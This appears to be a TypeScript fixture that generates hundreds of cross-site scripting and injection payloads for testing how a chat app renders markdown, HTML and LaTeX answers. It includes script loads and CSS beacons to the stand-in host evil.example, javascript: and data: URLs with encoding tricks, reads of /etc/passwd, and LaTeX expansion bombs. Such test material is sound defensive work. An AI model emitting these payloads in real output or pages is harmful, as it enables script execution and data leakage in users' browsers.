// Answers that try to become more than text. Each calls `pwned`, asks for something at `evil.example`, or makes an element that would.

const CALL = "pwned(1)";
const ADDRESS = "https://evil.example/x";

const html: string[] = [];
const tags = ["img", "svg", "video", "audio", "body", "iframe", "object", "embed", "input", "details", "a", "div", "math", "marquee", "button", "form", "style", "link", "meta", "base"];
const handlers = ["onerror", "onload", "onclick", "onmouseover", "onfocus", "ontoggle", "onanimationstart", "onbeforetoggle"];
for (const tag of tags) for (const handler of handlers) html.push(`<${tag} src=x open autofocus tabindex=0 ${handler}=${CALL}>`);
html.push(
  `<script>${CALL}</script>`, `<script src="${ADDRESS}.js"></script>`, `<SCRIPT SRC=//evil.example/x.js></SCRIPT>`, `<scr<script>ipt>${CALL}</scr</script>ipt>`, `<script\n>${CALL}</script\n>`,
  `<svg><script>${CALL}</script></svg>`, `<svg><animate attributeName=href values=javascript:${CALL} /><a><text>x</text></a></svg>`, `<svg><use href="${ADDRESS}.svg#x"/></svg>`, `<svg/onload=${CALL}>`,
  `<math><maction actiontype="statusline#${ADDRESS}" xlink:href="javascript:${CALL}">x</maction></math>`, `<math href="javascript:${CALL}">x</math>`,
  `<iframe srcdoc="<script>parent.${CALL}</script>"></iframe>`, `<iframe src="javascript:parent.${CALL}"></iframe>`, `<object data="javascript:${CALL}"></object>`, `<embed src="${ADDRESS}">`,
  `<base href="https://evil.example/">`, `<meta http-equiv="refresh" content="0;url=${ADDRESS}">`, `<link rel=stylesheet href="${ADDRESS}.css">`, `<link rel=prefetch href="${ADDRESS}">`, `<style>@import "${ADDRESS}.css";</style>`,
  `<style>*{background:url(${ADDRESS})}</style>`, `<div style="background:url(${ADDRESS})">x</div>`, `<form action="${ADDRESS}"><button>x</button></form>`, `<input type=image src="${ADDRESS}">`, `<img srcset="${ADDRESS} 1x">`,
  `<template><img src=x onerror=${CALL}></template>`, `<noscript><p title="</noscript><img src=x onerror=${CALL}>">`, `<textarea></textarea><img src=x onerror=${CALL}>`, `<!--><img src=x onerror=${CALL}>-->`, `<![CDATA[<img src=x onerror=${CALL}>]]>`,
  `<?php ${CALL} ?><img src=x onerror=${CALL}>`, `<br onclick=${CALL}>`, `<br/onload=${CALL}>`, `<br><img src=x onerror=${CALL}>`, `<xmp><img src=x onerror=${CALL}></xmp>`, `<a href="javascript:${CALL}">x</a>`, `<details open ontoggle=${CALL}>`,
  `&lt;img src=x onerror=${CALL}&gt;`, `&#60;img src=x onerror=${CALL}&#62;`, `&#x3c;script&#x3e;${CALL}&#x3c;/script&#x3e;`, `\u003cimg src=x onerror=${CALL}\u003e`, `<img src=x onerror\u0000=${CALL}>`, `<img\u000bsrc=x\u000conerror=${CALL}>`,
  `<img src="x\`>onerror=${CALL}//">`, `"><img src=x onerror=${CALL}>`, `'><script>${CALL}</script>`, `{@html "<img src=x onerror=${CALL}>"}`, `{${CALL}}`, `{{constructor.constructor('${CALL}')()}}`, `\${${CALL}}`,
);

const schemes = [
  `javascript:${CALL}`, `JaVaScRiPt:${CALL}`, `javascript&colon;${CALL}`, `javascript&#58;${CALL}`, `&#106;avascript:${CALL}`, `&#x6a;&#x61;vascript:${CALL}`, `java&Tab;script:${CALL}`, `java&NewLine;script:${CALL}`, `java\tscript:${CALL}`,
  `\u0001javascript:${CALL}`, `&#1;javascript:${CALL}`, `%6aavascript:${CALL}`, `javascript%3a${CALL}`, `javascript://evil.example/%0a${CALL}`, `vbscript:${CALL}`, `data:text/html,<script>${CALL}</script>`,
  `data:text/html;base64,PHNjcmlwdD5wd25lZCgxKTwvc2NyaXB0Pg==`, `data:image/svg+xml,<svg onload=${CALL}>`, `data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9InB3bmVkKDEpIi8+`, `blob:${ADDRESS}`, `file:///etc/passwd`, `tauri://localhost/`, `ipc://localhost/x`,
  `asset://localhost/x`, `//evil.example/x`, `/settings`, `../x`, `#x`, `?x`, `https:evil.example`, `http://`, `https://[::1`, `intent://evil.example`, `feed:javascript:${CALL}`, `view-source:javascript:${CALL}`, `mailto:a@b"onclick="${CALL}`,
  `https://evil.example/"onmouseover="${CALL}`, `https://evil.example/'onmouseover='${CALL}`, `https://evil.example/\`${CALL}\``, ADDRESS, `http://user:pass@evil.example/`, `https://evil.example/\u202egnp.x`,
];

const contexts: ((address: string) => string)[] = [
  (address) => `[x](${address})`,
  (address) => `[x](<${address}>)`,
  (address) => `[x](${address} "title\\" onclick=${CALL}")`,
  (address) => `![x](${address})`,
  (address) => `![x](<${address}>)`,
  (address) => `[![x](${address})](${address})`,
  (address) => `<${address}>`,
  (address) => `[x][r]\n\n[r]: ${address}`,
  (address) => `![x][r]\n\n[r]: <${address}> 'onerror=${CALL}'`,
  (address) => `bare ${address} address`,
  (address) => `| [x](${address}) | ![x](${address}) |\n|---|---|\n| <${address}> | ${address} |`,
  (address) => `$\\href{${address}}{x}$`,
  (address) => `$$\n\\includegraphics[width=1em]{${address}}\n$$`,
  (address) => `\\(\\url{${address}}\\)`,
];

const info = [
  `"><img src=x onerror=${CALL}>`, `js" onclick="${CALL}`, `<script>${CALL}</script>`, `__proto__`, `constructor`, `toString`, `hasOwnProperty`, `../../x`, `js onload=${CALL}`, `{onclick=${CALL}}`, `html`, `svg`, `mermaid`, `math`, `javascript`,
].map((words) => `\`\`\`${words}\n<script>${CALL}</script><img src=x onerror=${CALL}>\n\`\`\``);

const formulas = [
  `\\htmlClass{x" onclick="${CALL}}{y}`, `\\htmlId{x}{y}`, `\\htmlStyle{background:url(${ADDRESS})}{y}`, `\\htmlData{onclick=${CALL}}{y}`, `\\html{<img src=x onerror=${CALL}>}`, `\\text{<img src=x onerror=${CALL}>}`, `<img src=x onerror=${CALL}>`,
  `\\unicode{<script>${CALL}</script>}`, `\\color{red" onclick="${CALL}}{x}`, `\\textcolor{url(${ADDRESS})}{x}`, `\\def\\a{\\a\\a}\\a`, `\\def\\a#1{\\href{javascript:${CALL}}{#1}}\\a x`, `\\rule{99999em}{99999em}`, `\\kern-9999em x`, `\\raisebox{9999em}{x}`,
  `\\class{x}{y}`, `\\style{color:red}{y}`, `\\require{html}\\href{javascript:${CALL}}{x}`, `\\input{/etc/passwd}`, `\\newcommand{\\x}{\\href{${ADDRESS}}{x}}\\x`, `${"{".repeat(900)}x${"}".repeat(900)}`, `${"\\sqrt{".repeat(150)}x${"}".repeat(150)}`, `\\text{\\href{javascript:${CALL}}{x}}`,
].flatMap((tex) => [`$${tex}$`, `$$\n${tex}\n$$`, `\\[${tex}\\]`]);

export const payloads: string[] = [
  ...html,
  ...html.filter((_, index) => index % 4 === 0).flatMap((raw) => [`- ${raw}`, `> ${raw}`, `# ${raw}`, `**${raw}**`, `\`${raw}\``, `[${raw}](${ADDRESS})`, `![${raw}](${ADDRESS})`, `| ${raw} | b |\n|---|---|\n| ${raw} | ${raw} |`, `    ${raw}`, `- [ ] ${raw}`]),
  ...schemes.flatMap((address) => contexts.map((context) => context(address))),
  ...info,
  ...formulas,
];
